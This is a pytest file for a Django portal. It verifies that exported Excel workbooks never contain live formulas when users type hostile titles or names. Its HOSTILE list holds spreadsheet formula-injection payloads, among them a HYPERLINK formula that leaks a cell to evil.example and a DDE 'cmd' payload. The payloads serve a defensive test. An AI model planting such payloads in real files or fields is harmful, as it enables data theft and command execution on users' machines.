"""Issue 11, finding 4: no workbook the portal writes carries a live formula, whatever a
user typed. A hostile title goes through each workbook (weekly report, compliance export,
contacts export) and every cell of every sheet is checked."""

from datetime import date, datetime, timedelta
from io import BytesIO
from zoneinfo import ZoneInfo

import openpyxl
import pytest
import time_machine
from django.urls import reverse

from contacts.models import Organisation
from events.enums import Verdict
from newsroom.enums import Assessment
from newsroom.models import MonitoringItem
from newsroom.services.reports import generate_draft
from portal.spreadsheets import SafeWorkbook, neutralise, restore
from tests.contacts.factories import PressAgencyFactory, PressContactFactory
from tests.factories import NoticeFactory

pytestmark = pytest.mark.django_db
HCM = ZoneInfo("Asia/Ho_Chi_Minh")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def cells(content: bytes):
    book = openpyxl.load_workbook(BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(content: bytes, hostile: str):
    found = cells(content)
    assert [c.coordinate for c in found if c.data_type == "f"] == []
    assert "'" + hostile in [c.value for c in found]  # the text is there, quoted


@pytest.mark.parametrize("hostile", HOSTILE)
def test_neutralise_quotes_what_could_be_a_formula_and_restore_takes_it_off(hostile):
    assert neutralise(hostile) == "'" + hostile
    assert restore(neutralise(hostile)) == hostile
    assert neutralise("Bình thường") == "Bình thường"
    assert neutralise(-2) == -2  # numbers stay numbers


@pytest.mark.parametrize("hostile", HOSTILE)
def test_the_writer_never_makes_a_formula_cell(hostile):
    book = SafeWorkbook()
    sheet = book.sheet("a/b:c")
    book.append(sheet, [hostile, 3, 2.5])
    assert_no_formula(book.to_bytes(), hostile)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_weekly_report_workbook_has_no_formula(world, client_for, hostile):
    with time_machine.travel(datetime(2026, 11, 26, 14, 0, tzinfo=HCM), tick=False):
        MonitoringItem.objects.create(
            centre=world.centre,
            outlet=hostile,
            published_on=date(2026, 11, 21),
            title=hostile,
            assessment=Assessment.NEGATIVE,
            created_by=world.director,
        )
        report = generate_draft(world.centre, date(2026, 11, 19))
        response = client_for(world.director).get(
            reverse("newsroom:report_excel", args=[report.pk])
        )
    assert_no_formula(response.content, hostile)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_compliance_export_has_no_formula(world, client_for, hostile):
    Organisation.objects.filter(pk=world.agency.pk).update(name=hostile)
    with time_machine.travel(datetime(2026, 11, 26, 14, 0, tzinfo=HCM), tick=False):
        at = datetime(2026, 11, 10, 9, 0, tzinfo=HCM)
        NoticeFactory(
            agency=world.agency,
            created_by=world.agency_user,
            received_at=at - timedelta(days=2),
            starts_at=at,
            verdict=Verdict.ON_TIME,
        )
        response = client_for(world.director).get(
            reverse("newsroom:compliance_export"), {"period": "month", "year": 2026, "number": 11}
        )
    assert response.status_code == 200
    assert_no_formula(response.content, hostile)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_contacts_export_has_no_formula(client, hostile):
    PressContactFactory(press_agency=PressAgencyFactory(name="Báo Kon Tum"), full_name=hostile)
    response = client.get(reverse("contacts:public_export", args=["xlsx"]))
    assert response.status_code == 200
    assert_no_formula(response.content, hostile)
